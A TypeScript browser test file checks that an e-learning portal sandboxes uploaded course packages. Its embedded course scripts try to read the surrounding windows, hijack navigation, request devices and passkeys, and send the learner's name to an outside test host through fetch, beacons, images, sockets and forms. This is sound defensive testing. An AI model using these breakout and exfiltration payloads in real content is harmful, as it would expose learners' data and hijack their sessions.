// A package is somebody else's page inside ours. What it can do to the page around it, to the browser and to other hosts.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

import { Person, packageOf } from './support/courses';
import { course, launch, leave } from './support/player';
import type { Portal } from './support/portal';
import { expect, signIn, test } from './support/test';

test.use({ isLoud: true });

/** Another host: what it was asked for, and one page that it serves. */
class OtherHost {
  readonly asked: string[] = [];
  page = '';

  private constructor(private readonly server: Server) {}

  static async start(): Promise<OtherHost> {
    const server = createServer();
    const host = new OtherHost(server);
    server.on('request', (request, reply) => {
      host.asked.push(`${request.method} ${request.url}`);
      reply.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
      reply.end(host.page);
    });
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    return host;
  }

  /** By name, so that it is another site as well as another origin. */
  get url(): string {
    return `http://localhost:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): Promise<unknown> {
    this.server.closeAllConnections();
    return new Promise((ended) => this.server.close(ended));
  }
}

/** Publishes a course of one page, whose script fills `notes` and says when it is done. */
async function publish(portal: Portal, administrator: { username: string; password: string }, title: string, script: string) {
  const page = `<!doctype html><title>${title}</title><body><h1>${title}</h1><script>
const notes = {};
const attempt = async (name, what) => { try { const got = await what(); notes[name] = got === undefined ? 'done' : String(got); }
  catch (error) { notes[name] = error.name; } };
(async () => { ${script} })().finally(() => { document.querySelector('h1').textContent = 'Done'; });
</script></body>`;
  const person = await Person.signIn(portal, administrator);
  await person.publish(title, 'page.zip', packageOf(title, '1.2', [{ title, page }]));
}

test('a package reads nothing of the windows around it [CS-01]', async ({ page, portal, accounts }) => {
  const title = 'Looks around';
  await publish(
    portal,
    accounts.administrator,
    title,
    `for (const [name, w] of [['top', top], ['player', parent.parent]]) {
      await attempt(name + ' document', () => w.document.title);
      await attempt(name + ' address', () => w.location.href);
      await attempt(name + ' local storage', () => w.localStorage.length);
      await attempt(name + ' session storage', () => w.sessionStorage.length);
      await attempt(name + ' databases', () => w.indexedDB.databases());
      await attempt(name + ' history', () => w.history.length);
      await attempt(name + ' opener', () => w.opener === null ? 'none' : w.opener.location.href);
      await attempt(name + ' names', () => Object.getOwnPropertyNames(w).filter((one) => /document|storage|history|React|oneroom/i.test(one)));
      await attempt(name + ' frame element', () => w.frameElement);
    }
    await attempt('sibling', () => top[0].document === document ? 'own' : top[0].frames.length);
    await attempt('opener', () => String(window.opener));`,
  );
  await signIn(page, accounts.administrator);
  await launch(page, title);
  await expect(course(page).getByRole('heading', { name: 'Done' })).toBeVisible();
  const notes = await course(page)
    .locator('body')
    .evaluate(() => (0, eval)('notes') as Record<string, string>);
  const refused = Object.entries(notes).filter(([, got]) => got === 'SecurityError');
  expect(refused.map(([name]) => name)).toEqual(
    ['top', 'player'].flatMap((who) =>
      ['document', 'address', 'local storage', 'session storage', 'databases', 'history', 'frame element'].map(
        (what) => `${who} ${what}`,
      ),
    ),
  );
  // What is left: nobody has opened the portal, and the first frame of it is the bridge, whose only frame is the course.
  expect(Object.fromEntries(Object.entries(notes).filter(([, got]) => got !== 'SecurityError'))).toEqual({
    'top names': '',
    'top opener': 'none',
    'player names': '',
    'player opener': 'none',
    sibling: '1',
    opener: 'null',
  });
});

test('a package leads the portal nowhere and reaches no device, and the way out stays open [CS-03]', async ({
  page,
  portal,
  accounts,
  context,
}) => {
  const host = await OtherHost.start();
  host.page = '<title>Elsewhere</title><script>try { opener.top.location = "about:blank" } catch {}</script>';
  const title = 'Breaks out';
  await publish(
    portal,
    accounts.administrator,
    title,
    `const other = ${JSON.stringify(host.url)};
    await attempt('top.location', () => { top.location = other; });
    await attempt('top.location.replace', () => { top.location.replace(other); });
    await attempt('top by name', () => { open(other, '_top'); });
    for (const target of ['_top', '_parent']) {
      const link = Object.assign(document.createElement('a'), { href: other, target });
      document.body.append(link); link.click();
      const form = Object.assign(document.createElement('form'), { action: other, target });
      document.body.append(form); form.submit();
    }
    const meta = Object.assign(document.createElement('meta'), { content: '0; url=javascript:top.location="' + other + '"' });
    meta.httpEquiv = 'refresh'; document.head.append(meta);
    const popup = open(other, 'popup');
    await attempt('popup', () => popup ? 'opened' : 'blocked');
    await attempt('geolocation', () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, (error) => no({ name: 'denied ' + error.code }))));
    await attempt('devices', () => ['camera', 'microphone', 'geolocation', 'display-capture', 'payment', 'usb', 'midi', 'publickey-credentials-get']
      .filter((one) => document.featurePolicy.allowsFeature(one)));
    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
    await attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
    await attempt('screen', () => navigator.mediaDevices.getDisplayMedia());
    await attempt('payment', () => new PaymentRequest([{ supportedMethods: other }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show());
    await attempt('passkey', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }));
    await attempt('pointer lock', () => document.body.requestPointerLock());
    await attempt('midi', () => navigator.requestMIDIAccess());
    for (let i = 0; i < 30; i += 1) { alert('again ' + i); confirm('again ' + i); }
    print();`,
  );
  // A person who would say yes to everything.
  await context.grantPermissions(['geolocation', 'camera', 'microphone']);
  const places: string[] = [];
  await signIn(page, accounts.learner);
  await launch(page, title);
  const here = page.url();
  page.on('framenavigated', (frame) => frame === page.mainFrame() && places.push(frame.url()));
  page.on('dialog', (dialog) => dialog.accept().catch(() => undefined));
  await expect(course(page).getByRole('heading', { name: 'Done' })).toBeVisible();
  const notes = await course(page)
    .locator('body')
    .evaluate(() => (0, eval)('notes') as Record<string, string>);
  expect(Object.entries(notes).filter(([name, got]) => got === 'done' && !/^top/.test(name))).toEqual([]);
  expect(notes['top.location']).toBe('SecurityError');
  expect(notes.geolocation).toBe('denied 1');
  // This machine may have no camera: what the page is allowed is asked, too.
  expect(notes.devices).toBe('');
  for (const device of ['screen', 'passkey']) expect(notes[device]).toBe('NotAllowedError');
  expect(places).toEqual([]);
  expect(page.url()).toBe(here);
  await leave(page);
  await host.stop();
});

test('a package cannot make its origin wider, and both origins say that they stand alone [CS-14]', async ({
  page,
  portal,
  accounts,
}) => {
  const title = 'Relaxes';
  await publish(
    portal,
    accounts.administrator,
    title,
    `await attempt('own domain', () => { document.domain = document.domain; });
    await attempt('shorter domain', () => { document.domain = '0.0.1'; });
    await attempt('isolated', () => originAgentCluster);
    await attempt('still closed', () => top.document.title);`,
  );
  await signIn(page, accounts.learner);
  const cluster = new Map<string, string | undefined>();
  page.on('response', (reply) => {
    const kind = reply.url().startsWith(portal.url) ? 'portal' : reply.url().startsWith(portal.contentUrl) ? 'content' : '';
    if (kind && reply.request().resourceType() === 'document') cluster.set(kind, reply.headers()['origin-agent-cluster']);
  });
  await launch(page, title);
  await expect(course(page).getByRole('heading', { name: 'Done' })).toBeVisible();
  const notes = await course(page)
    .locator('body')
    .evaluate(() => (0, eval)('notes') as Record<string, string>);
  expect(notes).toEqual({
    'own domain': expect.stringMatching(/done|SecurityError/),
    'shorter domain': 'SecurityError',
    isolated: 'true',
    'still closed': 'SecurityError',
  });
  expect(Object.fromEntries(cluster)).toEqual({ portal: '?1', content: '?1' });
});

test('no other site can frame the portal, the bridge or a course [CS-19]', async ({ page, portal, accounts, context }) => {
  const title = 'Is framed';
  await publish(portal, accounts.administrator, title, '');
  await signIn(page, accounts.learner);
  await launch(page, title);
  await expect(course(page).getByRole('heading', { name: 'Done' })).toBeVisible();
  const own = [page.url(), `${portal.url}/home`, `${portal.url}/login`, ...page.frames().slice(1).map((frame) => frame.url())];
  expect(own.filter((url) => url.startsWith(portal.contentUrl)).length).toBe(2);

  const host = await OtherHost.start();
  host.page = own.map((url) => `<iframe src="${url}"></iframe>`).join('');
  const evil = await context.newPage();
  await evil.goto(host.url);
  await evil.waitForLoadState('load');
  const shown = await Promise.all(
    evil
      .frames()
      .slice(1)
      .map((frame) => frame.evaluate(() => `${location.protocol} ${document.title}`)),
  );
  expect(shown).toEqual(own.map(() => expect.stringMatching(/^chrome-error:/)));
  await host.stop();
});

test('a package loads nothing from other hosts and tells them nothing [CS-20]', async ({ page, portal, accounts }) => {
  const host = await OtherHost.start();
  const title = 'Calls home';
  await publish(
    portal,
    accounts.administrator,
    title,
    `const other = ${JSON.stringify(host.url)};
    const api = parent.API; api.LMSInitialize('');
    const name = encodeURIComponent(api.LMSGetValue('cmi.core.student_name'));
    const load = (tag, attributes) => new Promise((done) => {
      const node = Object.assign(document.createElement(tag), attributes, { onload: () => done('loaded'), onerror: () => done('refused') });
      document.body.append(node); setTimeout(() => done('silent'), 1500);
    });
    notes.name = name ? 'known' : 'unknown';
    for (const [tag, attributes] of [['script', { src: other + '/script?' + name }], ['img', { src: other + '/img?' + name }],
      ['link', { rel: 'stylesheet', href: other + '/style?' + name }], ['link', { rel: 'prefetch', href: other + '/prefetch?' + name }],
      ['video', { src: other + '/video?' + name }], ['audio', { src: other + '/audio?' + name }], ['iframe', { src: other + '/iframe?' + name }],
      ['embed', { src: other + '/embed?' + name }], ['object', { data: other + '/object?' + name }]])
      await attempt(tag + (attributes.rel || ''), () => load(tag, attributes));
    await attempt('font', () => new FontFace('x', 'url(' + other + '/font?' + name + ')').load());
    await attempt('fetch', () => fetch(other + '/fetch?' + name).then(() => 'answered'));
    await attempt('no-cors', () => fetch(other + '/nocors?' + name, { mode: 'no-cors', method: 'POST', body: name }).then(() => 'answered'));
    await attempt('xhr', () => new Promise((done) => { const ask = new XMLHttpRequest(); ask.onload = () => done('answered'); ask.onerror = () => done('refused'); ask.open('GET', other + '/xhr?' + name); ask.send(); }));
    await attempt('beacon', () => { navigator.sendBeacon(other + '/beacon', name); });
    await attempt('socket', () => new Promise((done) => { const socket = new WebSocket(other.replace('http', 'ws')); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); }));
    await attempt('events', () => new Promise((done) => { const events = new EventSource(other + '/events'); events.onopen = () => done('open'); events.onerror = () => done('refused'); }));
    await attempt('worker', () => new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch("' + other + '/worker").then(() => postMessage("answered"), () => postMessage("refused"))']))); worker.onmessage = (event) => done(event.data); }));
    const form = Object.assign(document.createElement('form'), { action: other + '/form', method: 'post', target: 'sink' });
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }), form); form.submit();
    await attempt('inline', () => eval('1 + 1'));`,
  );
  await signIn(page, accounts.learner);
  await launch(page, title);
  await expect(course(page).getByRole('heading', { name: 'Done' })).toBeVisible({ timeout: 60_000 });
  const notes = await course(page)
    .locator('body')
    .evaluate(() => (0, eval)('notes') as Record<string, string>);
  expect(notes.name).toBe('known');
  expect(notes.inline).toBe('2');
  expect(Object.entries(notes).filter(([, got]) => /answered|open/.test(got))).toEqual([]);
  expect(host.asked).toEqual([]);
  await host.stop();
});
